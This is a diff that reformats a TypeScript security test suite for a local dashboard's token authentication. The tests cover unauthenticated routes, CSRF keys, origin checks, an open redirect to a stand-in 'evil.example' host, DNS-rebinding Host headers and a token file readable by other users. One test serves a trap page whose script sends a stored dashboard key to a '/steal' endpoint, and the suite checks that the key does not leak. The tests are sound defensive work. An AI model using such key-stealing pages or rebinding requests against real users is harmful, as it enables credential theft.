@@ -33,7 +33,11 @@ interface Cli {
 }
 
 async function startCli(root: string, args: string[] = []): Promise<Cli> {
-  const child = spawn(process.execPath, [GT_BIN, 'dashboard', ...(args.includes('--port') ? [] : ['--port', '0']), ...args], { cwd: root, env: cleanEnv({ GT_TMUX_SOCKET: SOCKET }) });
+  const child = spawn(
+    process.execPath,
+    [GT_BIN, 'dashboard', ...(args.includes('--port') ? [] : ['--port', '0']), ...args],
+    { cwd: root, env: cleanEnv({ GT_TMUX_SOCKET: SOCKET }) },
+  );
   let out = '';
   child.stdout!.on('data', (d: Buffer) => void (out += d.toString()));
   child.stderr!.on('data', (d: Buffer) => void (out += d.toString()));
@@ -57,8 +61,16 @@ function apiRoutes(dash: Dashboard): { method: string; path: string }[] {
   const seen = new Set<string>();
   return dash.app.routes
     .filter((r) => r.method !== 'ALL' && !r.path.includes('*'))
-    .map((r) => ({ method: r.method, path: r.path.replace(/:address/g, 'mayor').replace(/:rig/g, 'app').replace(/:[a-z_]+/g, 'x-1') }))
-    .filter((r) => r.path.startsWith('/api/') && !seen.has(`${r.method} ${r.path}`) && seen.add(`${r.method} ${r.path}`));
+    .map((r) => ({
+      method: r.method,
+      path: r.path
+        .replace(/:address/g, 'mayor')
+        .replace(/:rig/g, 'app')
+        .replace(/:[a-z_]+/g, 'x-1'),
+    }))
+    .filter(
+      (r) => r.path.startsWith('/api/') && !seen.has(`${r.method} ${r.path}`) && seen.add(`${r.method} ${r.path}`),
+    );
 }
 
 /** A script another user runs: every route without the token (and with guesses), the static page, the token file. */
@@ -83,7 +95,7 @@ try { out.controlRead = readFileSync(controlFile, 'utf8').trim(); } catch (e) { 
 console.log(JSON.stringify(out));
 `;
 
-describe('the dashboard belongs to the town\'s owner', () => {
+describe("the dashboard belongs to the town's owner", () => {
   const t = tempDir('gt dash auth');
   const root = join(t.dir, 'town');
   let dash: Dashboard;
@@ -97,7 +109,9 @@ describe('the dashboard belongs to the town\'s owner', () => {
     gtJson(t.dir, ['install', root]);
     sourceRepo(join(t.dir, 'app src'), 'main', { 'a.txt': 'a\n' });
     gtJson(root, ['rig', 'add', 'app', join(t.dir, 'app src')]);
-    dash = createDashboard(loadTown(root, { PATH: process.env.PATH ?? '', GT_TMUX_SOCKET: SOCKET }), { heartbeatMs: 15_000 });
+    dash = createDashboard(loadTown(root, { PATH: process.env.PATH ?? '', GT_TMUX_SOCKET: SOCKET }), {
+      heartbeatMs: 15_000,
+    });
   }, 60_000);
 
   afterAll(async () => {
@@ -135,14 +149,21 @@ describe('the dashboard belongs to the town\'s owner', () => {
     ];
     for (const r of routes) {
       for (const headers of wrong) {
-        const res = await dash.app.request(r.path, { method: r.method, headers: { 'content-type': 'application/json', ...headers }, ...(r.method === 'GET' ? {} : { body: '{}' }) });
+        const res = await dash.app.request(r.path, {
+          method: r.method,
+          headers: { 'content-type': 'application/json', ...headers },
+          ...(r.method === 'GET' ? {} : { body: '{}' }),
+        });
         expect(res.status, `${r.method} ${r.path} ${JSON.stringify(headers)}`).toBe(401);
         expect(((await res.json()) as { error: { code: string } }).error.code).toBe('GT_DASHBOARD_TOKEN');
       }
     }
     // The event stream takes the page key in the query (EventSource sends no headers), never the key alone.
     expect((await dash.app.request(`/api/events?csrf=${key}`)).status).toBe(401);
-    expect((await dash.app.request(`/api/feed?csrf=${key}`, { headers: { cookie } })).status, 'the query key is for the stream only').toBe(401);
+    expect(
+      (await dash.app.request(`/api/feed?csrf=${key}`, { headers: { cookie } })).status,
+      'the query key is for the stream only',
+    ).toBe(401);
     // With the token (a script) or the cookie and the key (the page) each route is past the guard.
     for (const r of routes.filter((x) => x.method === 'GET' && x.path !== '/api/events')) {
       for (const headers of [{ authorization: `Bearer ${dash.token}` }, { cookie, 'x-gt-csrf': key }]) {
@@ -171,12 +192,17 @@ describe('the dashboard belongs to the town\'s owner', () => {
     expect(location).not.toContain(dash.token);
     expect((await dash.app.request('/api/session?token=x')).status).toBe(401);
     // The redirect stays on this server whatever the path (`//host/…` would leave it, carrying the key).
-    expect((await dash.app.request(`http://localhost//evil.example/x?token=${dash.token}`)).headers.get('location')).toBe(`/evil.example/x#key=${dash.csrf}`);
+    expect(
+      (await dash.app.request(`http://localhost//evil.example/x?token=${dash.token}`)).headers.get('location'),
+    ).toBe(`/evil.example/x#key=${dash.csrf}`);
     const session = await dash.app.request('/api/session', { headers: { cookie, 'x-gt-csrf': key } });
     expect(((await session.json()) as { csrf: string }).csrf).toBe(key);
-    const post = async (headers: Record<string, string>): Promise<Response> => dash.app.request('/api/beads', {
-      method: 'POST', headers: { 'content-type': 'application/json', cookie, 'x-gt-csrf': key, ...headers }, body: JSON.stringify({ title: 'From the page' }),
-    });
+    const post = async (headers: Record<string, string>): Promise<Response> =>
+      dash.app.request('/api/beads', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', cookie, 'x-gt-csrf': key, ...headers },
+        body: JSON.stringify({ title: 'From the page' }),
+      });
     expect((await post({ origin: 'http://127.0.0.1:9999' })).status).toBe(403);
     expect((await post({ referer: 'http://evil.example/x' })).status).toBe(403);
     expect((await post({ origin: 'http://localhost' })).status).toBe(201);
@@ -191,9 +217,19 @@ describe('the dashboard belongs to the town\'s owner', () => {
     writeFileSync(control, 'readable\n', { mode: 0o644 });
     const probe = join(t.dir, 'probe.mjs');
     writeFileSync(probe, PROBE, { mode: 0o644 });
-    const r = spawnSync('setpriv', [...NOBODY, '/usr/bin/node', probe, cli.url, JSON.stringify(apiRoutes(dash)), tokenFile, control], { encoding: 'utf8', timeout: 60_000 });
+    const r = spawnSync(
+      'setpriv',
+      [...NOBODY, '/usr/bin/node', probe, cli.url, JSON.stringify(apiRoutes(dash)), tokenFile, control],
+      { encoding: 'utf8', timeout: 60_000 },
+    );
     expect(r.status, r.stderr).toBe(0);
-    const got = JSON.parse(r.stdout) as { api: { method: string; path: string; headers: string; status: number; body: string }[]; page: number; events: number; tokenRead: string; controlRead: string };
+    const got = JSON.parse(r.stdout) as {
+      api: { method: string; path: string; headers: string; status: number; body: string }[];
+      page: number;
+      events: number;
+      tokenRead: string;
+      controlRead: string;
+    };
     expect(got.page, 'the other user reaches the server').toBe(200);
     expect(got.controlRead, 'and can read a world-readable file beside the token').toBe('readable');
     expect(got.tokenRead).toBe('EACCES');
@@ -204,11 +240,27 @@ describe('the dashboard belongs to the town\'s owner', () => {
       expect(a.body).not.toContain(root);
     }
     // The same with curl, as the issue reports it: the session route no longer hands out anything.
-    const curl = (args: string[]): string => spawnSync('setpriv', [...NOBODY, 'curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', ...args], { encoding: 'utf8' }).stdout;
+    const curl = (args: string[]): string =>
+      spawnSync('setpriv', [...NOBODY, 'curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', ...args], {
+        encoding: 'utf8',
+      }).stdout;
     expect(curl([`${cli.url}api/session`])).toBe('401');
     // A DNS-rebinding page arrives with its own name in Host: refused, the static page too (node's fetch cannot set Host).
     expect(curl(['-H', 'Host: rebind.evil.example', cli.url])).toBe('403');
-    const owner = spawnSync('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-H', `Authorization: Bearer ${readFileSync(tokenFile, 'utf8').trim()}`, `${cli.url}api/session`], { encoding: 'utf8' });
+    const owner = spawnSync(
+      'curl',
+      [
+        '-s',
+        '-o',
+        '/dev/null',
+        '-w',
+        '%{http_code}',
+        '-H',
+        `Authorization: Bearer ${readFileSync(tokenFile, 'utf8').trim()}`,
+        `${cli.url}api/session`,
+      ],
+      { encoding: 'utf8' },
+    );
     expect(owner.stdout, 'the owner, with the token, gets in').toBe('200');
   }, 90_000);
 
@@ -237,15 +289,18 @@ describe('the dashboard belongs to the town\'s owner', () => {
     const seen: { cookie: string; key: string }[] = [];
     trap = createServer((req, res) => {
       const url = new URL(req.url ?? '/', 'http://x');
-      if (url.pathname === '/steal') seen.push({ cookie: req.headers.cookie ?? '', key: url.searchParams.get('key') ?? '' });
+      if (url.pathname === '/steal')
+        seen.push({ cookie: req.headers.cookie ?? '', key: url.searchParams.get('key') ?? '' });
       res.writeHead(200, { 'content-type': 'text/html' });
-      res.end(`<!doctype html><title>trap</title><script>fetch('/steal?key=' + encodeURIComponent(localStorage.getItem('gt-dashboard-key') ?? ''))</script>`);
+      res.end(
+        `<!doctype html><title>trap</title><script>fetch('/steal?key=' + encodeURIComponent(localStorage.getItem('gt-dashboard-key') ?? ''))</script>`,
+      );
     });
     await new Promise<void>((r) => trap!.listen(0, '127.0.0.1', () => r()));
     await page.goto(`http://127.0.0.1:${(trap.address() as AddressInfo).port}/`);
     await expect.poll(() => seen.length, { timeout: 5_000 }).toBeGreaterThan(0);
     expect(seen[0]!.cookie, 'cookies ignore ports').toContain(cookies[0]!.value);
-    expect(seen[0]!.key, 'the page key stays in the dashboard\'s origin').toBe('');
+    expect(seen[0]!.key, "the page key stays in the dashboard's origin").toBe('');
     for (const path of ['api/session', 'api/agents', 'api/events']) {
       const res = await fetchFresh(`${cli!.url}${path}`, { headers: { cookie: seen[0]!.cookie } });
       expect(res.status, `replayed cookie on ${path}`).toBe(401);
@@ -288,13 +343,19 @@ describe('the dashboard belongs to the town\'s owner', () => {
     expect(await page.evaluate('window.__noReload')).toBe(true);
     expect(await page.locator('#agents').count()).toBe(0);
     await page.close();
-    expect(cli.out()).toMatch(/made a new token: the old .*dashboard-token could not be trusted \(other users could read it \(mode 644\)\)/);
+    expect(cli.out()).toMatch(
+      /made a new token: the old .*dashboard-token could not be trusted \(other users could read it \(mode 644\)\)/,
+    );
     expect(statSync(tokenFile).mode & 0o777).toBe(0o600);
     const now = readFileSync(tokenFile, 'utf8').trim();
     expect(now).not.toBe(old);
     expect(cli.openUrl).toContain(`?token=${now}`);
-    expect((await fetchFresh(`${cli.url}api/session`, { headers: { authorization: `Bearer ${old}` } })).status).toBe(401);
-    expect((await fetchFresh(`${cli.url}api/session`, { headers: { authorization: `Bearer ${now}` } })).status).toBe(200);
+    expect((await fetchFresh(`${cli.url}api/session`, { headers: { authorization: `Bearer ${old}` } })).status).toBe(
+      401,
+    );
+    expect((await fetchFresh(`${cli.url}api/session`, { headers: { authorization: `Bearer ${now}` } })).status).toBe(
+      200,
+    );
     expect(await cli.stop()).toBe(0);
     cli = undefined;
     expect(existsSync(tokenFile)).toBe(true);
